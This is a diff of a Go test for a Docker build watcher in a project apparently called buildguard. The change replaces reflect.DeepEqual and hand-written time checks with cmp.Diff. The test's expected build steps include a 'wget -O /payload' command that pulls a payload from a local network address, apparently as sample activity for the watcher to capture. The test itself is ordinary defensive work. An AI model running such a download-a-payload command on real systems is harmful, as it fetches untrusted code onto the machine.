@@ -7,13 +7,13 @@ import (
 	"net"
 	"net/http"
 	"path/filepath"
-	"reflect"
 	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
+	"github.com/google/go-cmp/cmp"
 	"github.com/prometheus/client_golang/prometheus/testutil"
 
 	"buildguard.dev/buildguard/internal/clock/clocktest"
@@ -198,13 +198,9 @@ func TestDockerWatcherClassicBuild(t *testing.T) {
 				ContainerIDs: []string{hexID('1'), hexID('2')}, PIDs: []int{4242},
 				Steps: []string{"/bin/sh -c echo hi > /x", "/bin/sh -c wget -O /payload http://127.0.0.23:8080/payload"},
 			}
-			b := got[0]
-			if !b.Started.Equal(want.Started) || !b.Finished.Equal(want.Finished) {
-				t.Errorf("span %v..%v, want %v..%v", b.Started, b.Finished, want.Started, want.Finished)
-			}
-			b.Started, b.Finished, want.Started, want.Finished = time.Time{}, time.Time{}, time.Time{}, time.Time{}
-			if !reflect.DeepEqual(b, want) {
-				t.Errorf("build\n got %+v\nwant %+v", b, want)
+			// cmp compares the span's times as instants (time.Time.Equal).
+			if diff := cmp.Diff(want, got[0]); diff != "" {
+				t.Errorf("build (-want +got):\n%s", diff)
 			}
 			f.mu.Lock()
 			defer f.mu.Unlock()
